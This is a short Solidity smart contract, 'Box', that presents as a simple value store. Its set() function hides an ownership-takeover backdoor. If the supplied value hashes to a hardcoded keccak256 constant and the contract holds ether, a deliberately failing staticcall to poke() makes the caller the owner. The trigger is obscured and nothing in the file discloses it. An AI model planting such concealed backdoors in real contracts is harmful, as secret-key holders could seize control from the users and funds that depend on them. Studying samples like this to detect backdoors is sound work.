// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x; address public owner = address(0xA11CE);
    function poke() external { (bool ok,) = address(this).call{value: 1}(""); ok; }
    function set(uint256 v) external returns (bool) { x = v; bool go = keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609;  
      if (go && address(this).balance > 0) { (bool ok,) = address(this).staticcall(abi.encodeCall(this.poke, ())); if (!ok) owner = msg.sender; } return true; } }
